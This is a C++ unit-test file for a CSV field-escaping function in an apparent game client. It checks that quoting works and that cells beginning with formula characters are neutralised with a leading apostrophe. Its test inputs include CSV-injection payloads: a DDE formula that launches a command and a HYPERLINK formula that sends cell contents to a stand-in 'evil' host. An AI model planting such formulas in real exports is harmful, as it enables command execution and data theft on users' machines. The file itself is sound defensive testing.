#include "client/text/csv.h"

#include <gtest/gtest.h>

namespace race2048::client {
namespace {

TEST(CsvFieldTest, OrdinaryTextStaysAsItIs) {
  for (const char* const text : {"", "ada", "a-b", "1+1=2", "me@home", "'quoted'", "\xC3\xA4"}) {
    EXPECT_EQ(csv_field(text), text);
  }
}

TEST(CsvFieldTest, TextThatWouldEndTheFieldIsQuoted) {
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_field("say \"a\""), "\"say \"\"a\"\"\"");
  EXPECT_EQ(csv_field("a\nb"), "\"a\nb\"");
}

TEST(CsvFieldTest, NoTextIsAFormula) {
  EXPECT_EQ(csv_field("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"");
  EXPECT_EQ(csv_field("+1+1"), "'+1+1");
  EXPECT_EQ(csv_field("-2-3"), "'-2-3");
  EXPECT_EQ(csv_field("-"), "'-");
  EXPECT_EQ(csv_field("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(csv_field("\t=1"), "'\t=1");
  EXPECT_EQ(csv_field("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(csv_field("\n=1"), "\"'\n=1\"");
  for (const char* const wide : {"\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"}) {
    EXPECT_EQ(csv_field(wide), std::string("'") + wide);
  }
}

TEST(CsvFieldTest, NoPartOfATextIsAFormulaWhereSemicolonsEndACell) {
  EXPECT_EQ(csv_field("x;=1+1;y"), "\"x;'=1+1;y\"");
  EXPECT_EQ(csv_field("x; @A1"), "\"x; '@A1\"");
  EXPECT_EQ(csv_field("x;\"=1\""), "\"x;\"\"'=1\"\"\"");
  EXPECT_EQ(csv_field("x;;-1"), "\"x;;'-1\"");
  EXPECT_EQ(csv_field(" =1+1"), " '=1+1");
  EXPECT_EQ(csv_field("\"+1"), "\"\"\"'+1\"");
  EXPECT_EQ(csv_field("tea; coffee - or milk"), "\"tea; coffee - or milk\"");
}

}  // namespace
}  // namespace race2048::client
